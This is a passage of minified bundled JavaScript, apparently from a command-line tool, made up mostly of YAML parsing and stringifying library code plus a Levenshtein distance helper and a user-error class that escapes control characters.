var vk=Object.create;var xo=Object.defineProperty;var xk=Object.getOwnPropertyDescriptor;var $k=Object.getOwnPropertyNames;var _k=Object.getPrototypeOf,Sk=Object.prototype.hasOwnProperty;var Ue=(t,e,s)=>()=>{if(s)throw s[0];try{return t&&(e=t(t=0)),e}catch(r){throw s=[r],r}};var D=(t,e)=>()=>{try{return e||t((e={exports:{}}).exports,e),e.exports}catch(s){throw e=0,s}},Ya=(t,e)=>{for(var s in e)xo(t,s,{get:e[s],enumerable:!0})},Bu=(t,e,s,r)=>{
if(e&&typeof e=="object"||typeof e=="function")for(let n of $k(e))!Sk.call(t,n)&&n!==s&&xo(t,n,{get:()=>e[n],enumerable:!(r=xk(e,n))||r.enumerable});return t};var zu=(t,e,s)=>(s=t!=null?vk(_k(t)):{},Bu(e||!t||!t.__esModule?xo(s,"default",{value:t,enumerable:!0}):s,t)),Ck=t=>Bu(xo({},"__esModule",{value:!0}),t);var we,gt=Ue(()=>{"use strict";we=t=>Object.fromEntries(Object.entries(t).filter(([,e])=>e!==void 0))});var Mt,ir,ar=Ue(()=>{"use strict";Mt={catastrophic:0,severe:1,risky:2},ir=["workspace","strict"]});var tg=D(Yr=>{"use strict";Yr.__esModule=!0;Yr.distance=Yr.closest=void 0;var bs=new Uint32Array(65536),DS=function(t,e){for(var s=t.length,r=e.length,n=1<<s-1,
o=-1,i=0,a=s,l=s;l--;)bs[t.charCodeAt(l)]|=1<<l;for(l=0;l<r;l++){var c=bs[e.charCodeAt(l)],d=c|i;c|=(c&o)+o^o,i|=~(c|o),o&=c,i&n&&a++,o&n&&a--,i=i<<1|1,o=o<<1|~(d|
i),i&=d}for(l=s;l--;)bs[t.charCodeAt(l)]=0;return a},jS=function(t,e){for(var s=e.length,r=t.length,n=[],o=[],i=Math.ceil(s/32),a=Math.ceil(r/32),l=0;l<i;l++)o[l]=
-1,n[l]=0;for(var c=0;c<a-1;c++){for(var d=0,u=-1,p=c*32,f=Math.min(32,r)+p,m=p;m<f;m++)bs[t.charCodeAt(m)]|=1<<m;for(var l=0;l<s;l++){var h=bs[e.charCodeAt(l)],
g=o[l/32|0]>>>l&1,y=n[l/32|0]>>>l&1,x=h|d,_=((h|y)&u)+u^u|h|y,E=d|~(_|u),$=u&_;E>>>31^g&&(o[l/32|0]^=1<<l),$>>>31^y&&(n[l/32|0]^=1<<l),E=E<<1|g,$=$<<1|y,u=$|~(x|
E),d=E&x}for(var m=p;m<f;m++)bs[t.charCodeAt(m)]=0}for(var T=0,q=-1,A=c*32,N=Math.min(32,r-A)+A,m=A;m<N;m++)bs[t.charCodeAt(m)]|=1<<m;for(var j=r,l=0;l<s;l++){var h=bs[e.
charCodeAt(l)],g=o[l/32|0]>>>l&1,y=n[l/32|0]>>>l&1,x=h|T,_=((h|y)&q)+q^q|h|y,E=T|~(_|q),$=q&_;j+=E>>>r-1&1,j-=$>>>r-1&1,E>>>31^g&&(o[l/32|0]^=1<<l),$>>>31^y&&(n[l/
32|0]^=1<<l),E=E<<1|g,$=$<<1|y,q=$|~(x|E),T=E&x}for(var m=A;m<N;m++)bs[t.charCodeAt(m)]=0;return j},eg=function(t,e){if(t.length<e.length){var s=e;e=t,t=s}return e.
length===0?t.length:t.length<=32?DS(t,e):jS(t,e)};Yr.distance=eg;var WS=function(t,e){for(var s=1/0,r=0,n=0;n<e.length;n++){var o=eg(t,e[n]);o<s&&(s=o,r=n)}return e[r]};
Yr.closest=WS});function mr(t){return t.replace(FS,e=>{let s=e.codePointAt(0);return e===`
`?"\\n":e==="\r"?"\\r":e==="	"?"\\t":s<256?`\\x${s.toString(16).padStart(2,"0")}`:s>65535?`\\u{${s.toString(16)}}`:`\\u${s.toString(16).padStart(4,"0")}`})}var MS,
FS,tt,Qr=Ue(()=>{"use strict";MS=zu(tg(),1),FS=/[\x00-\x1f\x7f-\x9f\u00ad\u061c\u115f\u1160\u180e\u200b-\u200f\u2028-\u202e\u2060-\u206f\u3164\ud800-\udfff\ufeff\uffa0\ufff9-\ufffb\u{e0000}-\u{e0fff}]/gu;
tt=class extends Error{name="UserError";remedy;lines;constructor(e,s){let r=(typeof e=="string"?[e]:e).map(mr);super(r.join(`
`)),this.lines=r,this.remedy=s===void 0?void 0:mr(s)}get text(){return this.remedy?`${this.message}
  ${this.remedy}`:this.message}}});var re=D(Qe=>{"use strict";var id=Symbol.for("yaml.alias"),Rg=Symbol.for("yaml.document"),Yi=Symbol.for("yaml.map"),Ig=Symbol.for("yaml.pair"),ad=Symbol.for("ya\
ml.scalar"),Qi=Symbol.for("yaml.seq"),ys=Symbol.for("yaml.node.type"),A1=t=>!!t&&typeof t=="object"&&t[ys]===id,T1=t=>!!t&&typeof t=="object"&&t[ys]===Rg,P1=t=>!!t&&
typeof t=="object"&&t[ys]===Yi,R1=t=>!!t&&typeof t=="object"&&t[ys]===Ig,qg=t=>!!t&&typeof t=="object"&&t[ys]===ad,I1=t=>!!t&&typeof t=="object"&&t[ys]===Qi;function Og(t){
if(t&&typeof t=="object")switch(t[ys]){case Yi:case Qi:return!0}return!1}function q1(t){if(t&&typeof t=="object")switch(t[ys]){case id:case Yi:case ad:case Qi:return!0}
return!1}var O1=t=>(qg(t)||Og(t))&&!!t.anchor;Qe.ALIAS=id;Qe.DOC=Rg;Qe.MAP=Yi;Qe.NODE_TYPE=ys;Qe.PAIR=Ig;Qe.SCALAR=ad;Qe.SEQ=Qi;Qe.hasAnchor=O1;Qe.isAlias=A1;Qe.
isCollection=Og;Qe.isDocument=T1;Qe.isMap=P1;Qe.isNode=q1;Qe.isPair=R1;Qe.isScalar=qg;Qe.isSeq=I1});var Fn=D(ld=>{"use strict";var De=re(),lt=Symbol("break visit"),Ng=Symbol("skip children"),ts=Symbol("remove node");function Xi(t,e){let s=Lg(e);De.isDocument(t)?
Xr(null,t.contents,s,Object.freeze([t]))===ts&&(t.contents=null):Xr(null,t,s,Object.freeze([]))}Xi.BREAK=lt;Xi.SKIP=Ng;Xi.REMOVE=ts;function Xr(t,e,s,r){let n=Dg(
t,e,s,r);if(De.isNode(n)||De.isPair(n))return jg(t,r,n),Xr(t,n,s,r);if(typeof n!="symbol"){if(De.isCollection(e)){r=Object.freeze(r.concat(e));for(let o=0;o<e.items.
length;++o){let i=Xr(o,e.items[o],s,r);if(typeof i=="number")o=i-1;else{if(i===lt)return lt;i===ts&&(e.items.splice(o,1),o-=1)}}}else if(De.isPair(e)){r=Object.
freeze(r.concat(e));let o=Xr("key",e.key,s,r);if(o===lt)return lt;o===ts&&(e.key=null);let i=Xr("value",e.value,s,r);if(i===lt)return lt;i===ts&&(e.value=null)}}
return n}async function Ji(t,e){let s=Lg(e);De.isDocument(t)?await Jr(null,t.contents,s,Object.freeze([t]))===ts&&(t.contents=null):await Jr(null,t,s,Object.freeze(
[]))}Ji.BREAK=lt;Ji.SKIP=Ng;Ji.REMOVE=ts;async function Jr(t,e,s,r){let n=await Dg(t,e,s,r);if(De.isNode(n)||De.isPair(n))return jg(t,r,n),Jr(t,n,s,r);if(typeof n!=
"symbol"){if(De.isCollection(e)){r=Object.freeze(r.concat(e));for(let o=0;o<e.items.length;++o){let i=await Jr(o,e.items[o],s,r);if(typeof i=="number")o=i-1;else{
if(i===lt)return lt;i===ts&&(e.items.splice(o,1),o-=1)}}}else if(De.isPair(e)){r=Object.freeze(r.concat(e));let o=await Jr("key",e.key,s,r);if(o===lt)return lt;
o===ts&&(e.key=null);let i=await Jr("value",e.value,s,r);if(i===lt)return lt;i===ts&&(e.value=null)}}return n}function Lg(t){return typeof t=="object"&&(t.Collection||
t.Node||t.Value)?Object.assign({Alias:t.Node,Map:t.Node,Scalar:t.Node,Seq:t.Node},t.Value&&{Map:t.Value,Scalar:t.Value,Seq:t.Value},t.Collection&&{Map:t.Collection,
Seq:t.Collection},t):t}function Dg(t,e,s,r){if(typeof s=="function")return s(t,e,r);if(De.isMap(e))return s.Map?.(t,e,r);if(De.isSeq(e))return s.Seq?.(t,e,r);if(De.
isPair(e))return s.Pair?.(t,e,r);if(De.isScalar(e))return s.Scalar?.(t,e,r);if(De.isAlias(e))return s.Alias?.(t,e,r)}function jg(t,e,s){let r=e[e.length-1];if(De.
isCollection(r))r.items[t]=s;else if(De.isPair(r))t==="key"?r.key=s:r.value=s;else if(De.isDocument(r))r.contents=s;else{let n=De.isAlias(r)?"alias":"scalar";throw new Error(
`Cannot replace node with ${n} parent`)}}ld.visit=Xi;ld.visitAsync=Ji});var cd=D(Mg=>{"use strict";var Wg=re(),N1=Fn(),L1={"!":"%21",",":"%2C","[":"%5B","]":"%5D","{":"%7B","}":"%7D"},D1=t=>t.replace(/[!,[\]{}]/g,e=>L1[e]),Vn=class t{constructor(e,s){
this.docStart=null,this.docEnd=!1,this.yaml=Object.assign({},t.defaultYaml,e),this.tags=Object.assign({},t.defaultTags,s)}clone(){let e=new t(this.yaml,this.tags);
return e.docStart=this.docStart,e}atDocument(){let e=new t(this.yaml,this.tags);switch(this.yaml.version){case"1.1":this.atNextDocument=!0;break;case"1.2":this.
atNextDocument=!1,this.yaml={explicit:t.defaultYaml.explicit,version:"1.2"},this.tags=Object.assign({},t.defaultTags);break}return e}add(e,s){this.atNextDocument&&
(this.yaml={explicit:t.defaultYaml.explicit,version:"1.1"},this.tags=Object.assign({},t.defaultTags),this.atNextDocument=!1);let r=e.trim().split(/[ \t]+/),n=r.
shift();switch(n){case"%TAG":{if(r.length!==2&&(s(0,"%TAG directive should contain exactly two parts"),r.length<2))return!1;let[o,i]=r;return this.tags[o]=i,!0}case"\
%YAML":{if(this.yaml.explicit=!0,r.length!==1)return s(0,"%YAML directive should contain exactly one part"),!1;let[o]=r;if(o==="1.1"||o==="1.2")return this.yaml.
version=o,!0;{let i=/^\d+\.\d+$/.test(o);return s(6,`Unsupported YAML version ${o}`,i),!1}}default:return s(0,`Unknown directive ${n}`,!0),!1}}tagName(e,s){if(e===
"!")return"!";if(e[0]!=="!")return s(`Not a valid tag: ${e}`),null;if(e[1]==="<"){let i=e.slice(2,-1);return i==="!"||i==="!!"?(s(`Verbatim tags aren't resolved\
, so ${e} is invalid.`),null):(e[e.length-1]!==">"&&s("Verbatim tags must end with a >"),i)}let[,r,n]=e.match(/^(.*!)([^!]*)$/s);n||s(`The ${e} tag has no suffi\
x`);let o=this.tags[r];if(o)try{return o+decodeURIComponent(n)}catch(i){return s(String(i)),null}return r==="!"?e:(s(`Could not resolve tag: ${e}`),null)}tagString(e){
for(let[s,r]of Object.entries(this.tags))if(e.startsWith(r))return s+D1(e.substring(r.length));return e[0]==="!"?e:`!<${e}>`}toString(e){let s=this.yaml.explicit?
[`%YAML ${this.yaml.version||"1.2"}`]:[],r=Object.entries(this.tags),n;if(e&&r.length>0&&Wg.isNode(e.contents)){let o={};N1.visit(e.contents,(i,a)=>{Wg.isNode(a)&&
a.tag&&(o[a.tag]=!0)}),n=Object.keys(o)}else n=[];for(let[o,i]of r)o==="!!"&&i==="tag:yaml.org,2002:"||(!e||n.some(a=>a.startsWith(i)))&&s.push(`%TAG ${o} ${i}`);
return s.join(`
`)}};Vn.defaultYaml={explicit:!1,version:"1.2"};Vn.defaultTags={"!!":"tag:yaml.org,2002:"};Mg.Directives=Vn});var Zi=D(Un=>{"use strict";var Fg=re(),j1=Fn();function W1(t){if(/[\x00-\x19\s,[\]{}]/.test(t)){let s=`Anchor must not contain whitespace or control characters:\
 ${JSON.stringify(t)}`;throw new Error(s)}return!0}function Vg(t){let e=new Set;return j1.visit(t,{Value(s,r){r.anchor&&e.add(r.anchor)}}),e}function Ug(t,e){for(let s=1;;++s){
let r=`${t}${s}`;if(!e.has(r))return r}}function M1(t,e){let s=[],r=new Map,n=null;return{onAnchor:o=>{s.push(o),n??(n=Vg(t));let i=Ug(e,n);return n.add(i),i},setAnchors:()=>{
for(let o of s){let i=r.get(o);if(typeof i=="object"&&i.anchor&&(Fg.isScalar(i.node)||Fg.isCollection(i.node)))i.node.anchor=i.anchor;else{let a=new Error("Fail\
ed to resolve repeated object (this should not happen)");throw a.source=o,a}}},sourceObjects:r}}Un.anchorIsValid=W1;Un.anchorNames=Vg;Un.createNodeAnchors=M1;Un.
findNewAnchor=Ug});var dd=D(Hg=>{"use strict";function Hn(t,e,s,r){if(r&&typeof r=="object")if(Array.isArray(r))for(let n=0,o=r.length;n<o;++n){let i=r[n],a=Hn(t,r,String(n),i);a===
void 0?delete r[n]:a!==i&&(r[n]=a)}else if(r instanceof Map)for(let n of Array.from(r.keys())){let o=r.get(n),i=Hn(t,r,n,o);i===void 0?r.delete(n):i!==o&&r.set(
n,i)}else if(r instanceof Set)for(let n of Array.from(r)){let o=Hn(t,r,n,n);o===void 0?r.delete(n):o!==n&&(r.delete(n),r.add(o))}else for(let[n,o]of Object.entries(
r)){let i=Hn(t,r,n,o);i===void 0?delete r[n]:i!==o&&(r[n]=i)}return t.call(e,s,r)}Hg.applyReviver=Hn});var js=D(zg=>{"use strict";var F1=re();function Bg(t,e,s){if(Array.isArray(t))return t.map((r,n)=>Bg(r,String(n),s));if(t&&typeof t.toJSON=="function"){if(!s||!F1.
hasAnchor(t))return t.toJSON(e,s);let r={aliasCount:0,count:1,res:void 0};s.anchors.set(t,r),s.onCreate=o=>{r.res=o,delete s.onCreate};let n=t.toJSON(e,s);return s.
onCreate&&s.onCreate(n),n}return typeof t=="bigint"&&!s?.keep?Number(t):t}zg.toJS=Bg});var ea=D(Kg=>{"use strict";var V1=dd(),Gg=re(),U1=js(),ud=class{constructor(e){Object.defineProperty(this,Gg.NODE_TYPE,{value:e})}clone(){let e=Object.create(Object.
getPrototypeOf(this),Object.getOwnPropertyDescriptors(this));return this.range&&(e.range=this.range.slice()),e}toJS(e,{mapAsMap:s,maxAliasCount:r,onAnchor:n,reviver:o}={}){
if(!Gg.isDocument(e))throw new TypeError("A document argument is required");let i={anchors:new Map,doc:e,keep:!0,mapAsMap:s===!0,mapKeyWarned:!1,maxAliasCount:typeof r==
"number"?r:100},a=U1.toJS(this,"",i);if(typeof n=="function")for(let{count:l,res:c}of i.anchors.values())n(c,l);return typeof o=="function"?V1.applyReviver(o,{"":a},
"",a):a}};Kg.NodeBase=ud});var Bn=D(Yg=>{"use strict";var H1=Zi(),B1=Fn(),Zr=re(),z1=ea(),G1=js(),pd=class extends z1.NodeBase{constructor(e){super(Zr.ALIAS),this.source=e,Object.defineProperty(
this,"tag",{set(){throw new Error("Alias nodes cannot have tags")}})}resolve(e,s){if(s?.maxAliasCount===0)throw new ReferenceError("Alias resolution is disabled");
let r;s?.aliasResolveCache?r=s.aliasResolveCache:(r=[],B1.visit(e,{Node:(o,i)=>{(Zr.isAlias(i)||Zr.hasAnchor(i))&&r.push(i)}}),s&&(s.aliasResolveCache=r));let n;
for(let o of r){if(o===this)break;o.anchor===this.source&&(n=o)}if(n&&s){let{anchors:o,doc:i,maxAliasCount:a}=s,l=o.get(n);if(l||(G1.toJS(n,null,s),l=o.get(n)),
l?.res===void 0){let c="This should not happen: Alias anchor was not resolved?";throw new ReferenceError(c)}if(a>=0&&(l.count+=1,l.aliasCount===0&&(l.aliasCount=
ta(i,n,o)),l.count*l.aliasCount>a)){let c="Excessive alias count indicates a resource exhaustion attack";throw new ReferenceError(c)}}return n}toJSON(e,s){if(!s)
return{source:this.source};let r=this.resolve(s.doc,s);if(!r){let n=`Unresolved alias (the anchor must be set before the alias): ${this.source}`;throw new ReferenceError(
n)}return s.anchors.get(r).res}toString(e,s,r){let n=`*${this.source}`;if(e){if(H1.anchorIsValid(this.source),e.options.verifyAliasOrder&&!e.anchors.has(this.source)){
let o=`Unresolved alias (the anchor must be set before the alias): ${this.source}`;throw new Error(o)}if(e.implicitKey)return`${n} `}return n}};function ta(t,e,s){
if(Zr.isAlias(e)){let r=e.resolve(t),n=s&&r&&s.get(r);return n?n.count*n.aliasCount:0}else if(Zr.isCollection(e)){let r=0;for(let n of e.items){let o=ta(t,n,s);
o>r&&(r=o)}return r}else if(Zr.isPair(e)){let r=ta(t,e.key,s),n=ta(t,e.value,s);return Math.max(r,n)}return 1}Yg.Alias=pd});var qe=D(fd=>{"use strict";var K1=re(),Y1=ea(),Q1=js(),X1=t=>!t||typeof t!="function"&&typeof t!="object",Ws=class extends Y1.NodeBase{constructor(e){super(K1.SCALAR),
this.value=e}toJSON(e,s){return s?.keep?this.value:Q1.toJS(this.value,e,s)}toString(){return String(this.value)}};Ws.BLOCK_FOLDED="BLOCK_FOLDED";Ws.BLOCK_LITERAL=
"BLOCK_LITERAL";Ws.PLAIN="PLAIN";Ws.QUOTE_DOUBLE="QUOTE_DOUBLE";Ws.QUOTE_SINGLE="QUOTE_SINGLE";fd.Scalar=Ws;fd.isScalarValue=X1});var zn=D(Xg=>{"use strict";var J1=Bn(),gr=re(),Qg=qe(),Z1="tag:yaml.org,2002:";function eC(t,e,s){if(e){let r=s.filter(o=>o.tag===e),n=r.find(o=>!o.format)??r[0];
if(!n)throw new Error(`Tag ${e} not found`);return n}return s.find(r=>r.identify?.(t)&&!r.format)}function tC(t,e,s){if(gr.isDocument(t)&&(t=t.contents),gr.isNode(
t))return t;if(gr.isPair(t)){let u=s.schema[gr.MAP].createNode?.(s.schema,null,s);return u.items.push(t),u}(t instanceof String||t instanceof Number||t instanceof
Boolean||typeof BigInt<"u"&&t instanceof BigInt)&&(t=t.valueOf());let{aliasDuplicateObjects:r,onAnchor:n,onTagObj:o,schema:i,sourceObjects:a}=s,l;if(r&&t&&typeof t==
"object"){if(l=a.get(t),l)return l.anchor??(l.anchor=n(t)),new J1.Alias(l.anchor);l={anchor:null,node:null},a.set(t,l)}e?.startsWith("!!")&&(e=Z1+e.slice(2));let c=eC(
t,e,i.tags);if(!c){if(t&&typeof t.toJSON=="function"&&(t=t.toJSON()),!t||typeof t!="object"){let u=new Qg.Scalar(t);return l&&(l.node=u),u}c=t instanceof Map?i[gr.
MAP]:Symbol.iterator in Object(t)?i[gr.SEQ]:i[gr.MAP]}o&&(o(c),delete s.onTagObj);let d=c?.createNode?c.createNode(s.schema,t,s):typeof c?.nodeClass?.from=="fun\
ction"?c.nodeClass.from(s.schema,t,s):new Qg.Scalar(t);return e?d.tag=e:c.default||(d.tag=c.tag),l&&(l.node=d),d}Xg.createNode=tC});var ra=D(sa=>{"use strict";var sC=zn(),ss=re(),rC=ea();function md(t,e,s){let r=s;for(let n=e.length-1;n>=0;--n){let o=e[n];if(typeof o=="number"&&Number.isInteger(
o)&&o>=0){let i=[];i[o]=r,r=i}else r=new Map([[o,r]])}return sC.createNode(r,void 0,{aliasDuplicateObjects:!1,keepUndefined:!1,onAnchor:()=>{throw new Error("Th\
is should not happen, please report a bug.")},schema:t,sourceObjects:new Map})}var Jg=t=>t==null||typeof t=="object"&&!!t[Symbol.iterator]().next().done,hd=class extends rC.
NodeBase{constructor(e,s){super(e),Object.defineProperty(this,"schema",{value:s,configurable:!0,enumerable:!1,writable:!0})}clone(e){let s=Object.create(Object.
getPrototypeOf(this),Object.getOwnPropertyDescriptors(this));return e&&(s.schema=e),s.items=s.items.map(r=>ss.isNode(r)||ss.isPair(r)?r.clone(e):r),this.range&&
(s.range=this.range.slice()),s}addIn(e,s){if(Jg(e))this.add(s);else{let[r,...n]=e,o=this.get(r,!0);if(ss.isCollection(o))o.addIn(n,s);else if(o===void 0&&this.schema)
this.set(r,md(this.schema,n,s));else throw new Error(`Expected YAML collection at ${r}. Remaining path: ${n}`)}}deleteIn(e){let[s,...r]=e;if(r.length===0)return this.
delete(s);let n=this.get(s,!0);if(ss.isCollection(n))return n.deleteIn(r);throw new Error(`Expected YAML collection at ${s}. Remaining path: ${r}`)}getIn(e,s){let[
r,...n]=e,o=this.get(r,!0);return n.length===0?!s&&ss.isScalar(o)?o.value:o:ss.isCollection(o)?o.getIn(n,s):void 0}hasAllNullValues(e){return this.items.every(s=>{
if(!ss.isPair(s))return!1;let r=s.value;return r==null||e&&ss.isScalar(r)&&r.value==null&&!r.commentBefore&&!r.comment&&!r.tag})}hasIn(e){let[s,...r]=e;if(r.length===
0)return this.has(s);let n=this.get(s,!0);return ss.isCollection(n)?n.hasIn(r):!1}setIn(e,s){let[r,...n]=e;if(n.length===0)this.set(r,s);else{let o=this.get(r,!0);
if(ss.isCollection(o))o.setIn(n,s);else if(o===void 0&&this.schema)this.set(r,md(this.schema,n,s));else throw new Error(`Expected YAML collection at ${r}. Remai\
ning path: ${n}`)}}};sa.Collection=hd;sa.collectionFromPath=md;sa.isEmptyPath=Jg});var Gn=D(na=>{"use strict";var nC=t=>t.replace(/^(?!$)(?: $)?/gm,"#");function gd(t,e){return/^\n+$/.test(t)?t.substring(1):e?t.replace(/^(?! *$)/gm,e):t}var oC=(t,e,s)=>t.
endsWith(`
`)?gd(s,e):s.includes(`
`)?`
`+gd(s,e):(t.endsWith(" ")?"":" ")+s;na.indentComment=gd;na.lineComment=oC;na.stringifyComment=nC});var eb=D(Kn=>{"use strict";var iC="flow",bd="block",oa="quoted";function aC(t,e,s="flow",{indentAtStart:r,lineWidth:n=80,minContentWidth:o=20,onFold:i,onOverflow:a}={}){
if(!n||n<0)return t;n<o&&(o=0);let l=Math.max(1+o,1+n-e.length);if(t.length<=l)return t;let c=[],d={},u=n-e.length;typeof r=="number"&&(r>n-Math.max(2,o)?c.push(
0):u=n-r);let p,f,m=!1,h=-1,g=-1,y=-1;s===bd&&(h=Zg(t,h,e.length),h!==-1&&(u=h+l));for(let _;_=t[h+=1];){if(s===oa&&_==="\\"){switch(g=h,t[h+1]){case"x":h+=3;break;case"\
u":h+=5;break;case"U":h+=9;break;default:h+=1}y=h}if(_===`
`)s===bd&&(h=Zg(t,h,e.length)),u=h+e.length+l,p=void 0;else{if(_===" "&&f&&f!==" "&&f!==`
`&&f!=="	"){let E=t[h+1];E&&E!==" "&&E!==`
`&&E!=="	"&&(p=h)}if(h>=u)if(p)c.push(p),u=p+l,p=void 0;else if(s===oa){for(;f===" "||f==="	";)f=_,_=t[h+=1],m=!0;let E=h>y+1?h-2:g-1;if(d[E])return t;c.push(E),
d[E]=!0,u=E+l,p=void 0}else m=!0}f=_}if(m&&a&&a(),c.length===0)return t;i&&i();let x=t.slice(0,c[0]);for(let _=0;_<c.length;++_){let E=c[_],$=c[_+1]||t.length;E===
0?x=`
${e}${t.slice(0,$)}`:(s===oa&&d[E]&&(x+=`${t[E]}\\`),x+=`
${e}${t.slice(E+1,$)}`)}return x}function Zg(t,e,s){let r=e,n=e+1,o=t[n];for(;o===" "||o==="	";)if(e<n+s)o=t[++e];else{do o=t[++e];while(o&&o!==`
`);r=e,n=e+1,o=t[n]}return r}Kn.FOLD_BLOCK=bd;Kn.FOLD_FLOW=iC;Kn.FOLD_QUOTED=oa;Kn.foldFlowLines=aC});var Qn=D(tb=>{"use strict";var Ot=qe(),Ms=eb(),aa=(t,e)=>({indentAtStart:e?t.indent.length:t.indentAtStart,lineWidth:t.options.lineWidth,minContentWidth:t.options.
minContentWidth}),la=t=>/^(%|---|\.\.\.)/m.test(t);function lC(t,e,s){if(!e||e<0)return!1;let r=e-s,n=t.length;if(n<=r)return!1;for(let o=0,i=0;o<n;++o)if(t[o]===
`
`){if(o-i>r)return!0;if(i=o+1,n-i<=r)return!1}return!0}function Yn(t,e){let s=JSON.stringify(t);if(e.options.doubleQuotedAsJSON)return s;let{implicitKey:r}=e,n=e.
options.doubleQuotedMinMultiLineLength,o=e.indent||(la(t)?"  ":""),i="",a=0;for(let l=0,c=s[l];c;c=s[++l])if(c===" "&&s[l+1]==="\\"&&s[l+2]==="n"&&(i+=s.slice(a,
l)+"\\ ",l+=1,a=l,c="\\"),c==="\\")switch(s[l+1]){case"u":{i+=s.slice(a,l);let d=s.substr(l+2,4);switch(d){case"0000":i+="\\0";break;case"0007":i+="\\a";break;case"\
000b":i+="\\v";break;case"001b":i+="\\e";break;case"0085":i+="\\N";break;case"00a0":i+="\\_";break;case"2028":i+="\\L";break;case"2029":i+="\\P";break;default:d.
substr(0,2)==="00"?i+="\\x"+d.substr(2):i+=s.substr(l,6)}l+=5,a=l+1}break;case"n":if(r||s[l+2]==='"'||s.length<n)l+=1;else{for(i+=s.slice(a,l)+`

`;s[l+2]==="\\"&&s[l+3]==="n"&&s[l+4]!=='"';)i+=`
`,l+=2;i+=o,s[l+2]===" "&&(i+="\\"),l+=1,a=l+1}break;default:l+=1}return i=a?i+s.slice(a):s,r?i:Ms.foldFlowLines(i,o,Ms.FOLD_QUOTED,aa(e,!1))}function yd(t,e){if(e.
options.singleQuote===!1||e.implicitKey&&t.includes(`
`)||/[ \t]\n|\n[ \t]/.test(t))return Yn(t,e);let s=e.indent||(la(t)?"  ":""),r="'"+t.replace(/'/g,"''").replace(/\n+/g,`$&
${s}`)+"'";return e.implicitKey?r:Ms.foldFlowLines(r,s,Ms.FOLD_FLOW,aa(e,!1))}function en(t,e){let{singleQuote:s}=e.options,r;if(s===!1)r=Yn;else{let n=t.includes(
'"'),o=t.includes("'");n&&!o?r=yd:o&&!n?r=Yn:r=s?yd:Yn}return r(t,e)}var wd;try{wd=new RegExp(`(^|(?<!
))
+(?!
|$)`,"g")}catch{wd=/\n+(?!\n|$)/g}function ia({comment:t,type:e,value:s},r,n,o){let{blockQuote:i,commentString:a,lineWidth:l}=r.options;if(!i||/\n[\t ]+$/.test(
s))return en(s,r);let c=r.indent||(r.forceBlockIndent||la(s)?"  ":""),d=i==="literal"?!0:i==="folded"||e===Ot.Scalar.BLOCK_FOLDED?!1:e===Ot.Scalar.BLOCK_LITERAL?
!0:!lC(s,l,c.length);if(!s)return d?`|
`:`>
`;let u,p;for(p=s.length;p>0;--p){let $=s[p-1];if($!==`
`&&$!=="	"&&$!==" ")break}let f=s.substring(p),m=f.indexOf(`
`);m===-1?u="-":s===f||m!==f.length-1?(u="+",o&&o()):u="",f&&(s=s.slice(0,-f.length),f[f.length-1]===`
`&&(f=f.slice(0,-1)),f=f.replace(wd,`$&${c}`));let h=!1,g,y=-1;for(g=0;g<s.length;++g){let $=s[g];if($===" ")h=!0;else if($===`
`)y=g;else break}let x=s.substring(0,y<g?y+1:g);x&&(s=s.substring(x.length),x=x.replace(/\n+/g,`$&${c}`));let E=(h?c?"2":"1":"")+u;if(t&&(E+=" "+a(t.replace(/ ?[\r\n]+/g,
" ")),n&&n()),!d){let $=s.replace(/\n+/g,`
$&`).replace(/(?:^|\n)([\t ].*)(?:([\n\t ]*)\n(?![\n\t ]))?/g,"$1$2").replace(/\n+/g,`$&${c}`),T=!1,q=aa(r,!0);i!=="folded"&&e!==Ot.Scalar.BLOCK_FOLDED&&(q.onOverflow=
()=>{T=!0});let A=Ms.foldFlowLines(`${x}${$}${f}`,c,Ms.FOLD_BLOCK,q);if(!T)return`>${E}
${c}${A}`}return s=s.replace(/\n+/g,`$&${c}`),`|${E}
${c}${x}${s}${f}`}function cC(t,e,s,r){let{type:n,value:o}=t,{actualString:i,implicitKey:a,indent:l,indentStep:c,inFlow:d}=e;if(a&&o.includes(`
`)||d&&/[[\]{},]/.test(o))return en(o,e);if(/^[\n\t ,[\]{}#&*!|>'"%@`]|^[?-]$|^[?-][ \t]|[\n:][ \t]|[ \t]\n|[\n\t ]#|[\n\t :]$/.test(o))return a||d||!o.includes(
`
`)?en(o,e):ia(t,e,s,r);if(!a&&!d&&n!==Ot.Scalar.PLAIN&&o.includes(`
`))return ia(t,e,s,r);if(la(o)){if(l==="")return e.forceBlockIndent=!0,ia(t,e,s,r);if(a&&l===c)return en(o,e)}let u=o.replace(/\n+/g,`$&
${l}`);if(i){let p=h=>h.default&&h.tag!=="tag:yaml.org,2002:str"&&h.test?.test(u),{compat:f,tags:m}=e.doc.schema;if(m.some(p)||f?.some(p))return en(o,e)}return a?
u:Ms.foldFlowLines(u,l,Ms.FOLD_FLOW,aa(e,!1))}function dC(t,e,s,r){let{implicitKey:n,inFlow:o}=e,i=typeof t.value=="string"?t:Object.assign({},t,{value:String(t.
value)}),{type:a}=t;a!==Ot.Scalar.QUOTE_DOUBLE&&/[\x00-\x08\x0b-\x1f\x7f-\x9f\u{D800}-\u{DFFF}]/u.test(i.value)&&(a=Ot.Scalar.QUOTE_DOUBLE);let l=d=>{switch(d){case Ot.
Scalar.BLOCK_FOLDED:case Ot.Scalar.BLOCK_LITERAL:return n||o?en(i.value,e):ia(i,e,s,r);case Ot.Scalar.QUOTE_DOUBLE:return Yn(i.value,e);case Ot.Scalar.QUOTE_SINGLE:
return yd(i.value,e);case Ot.Scalar.PLAIN:return cC(i,e,s,r);default:return null}},c=l(a);if(c===null){let{defaultKeyType:d,defaultStringType:u}=e.options,p=n&&
d||u;if(c=l(p),c===null)throw new Error(`Unsupported default string type ${p}`)}return c}tb.stringifyString=dC});var Xn=D(kd=>{"use strict";var uC=Zi(),Fs=re(),pC=Gn(),fC=Qn();function mC(t,e){let s=Object.assign({blockQuote:!0,commentString:pC.stringifyComment,defaultKeyType:null,
defaultStringType:"PLAIN",directives:null,doubleQuotedAsJSON:!1,doubleQuotedMinMultiLineLength:40,falseStr:"false",flowCollectionPadding:!0,indentSeq:!0,lineWidth:80,
minContentWidth:20,nullStr:"null",simpleKeys:!1,singleQuote:null,trailingComma:!1,trueStr:"true",verifyAliasOrder:!0},t.schema.toStringOptions,e),r;switch(s.collectionStyle){case"\
block":r=!1;break;case"flow":r=!0;break;default:r=null}return{anchors:new Set,doc:t,flowCollectionPadding:s.flowCollectionPadding?" ":"",indent:"",indentStep:typeof s.
indent=="number"?" ".repeat(s.indent):"  ",inFlow:r,options:s}}function hC(t,e){if(e.tag){let n=t.filter(o=>o.tag===e.tag);if(n.length>0)return n.find(o=>o.format===
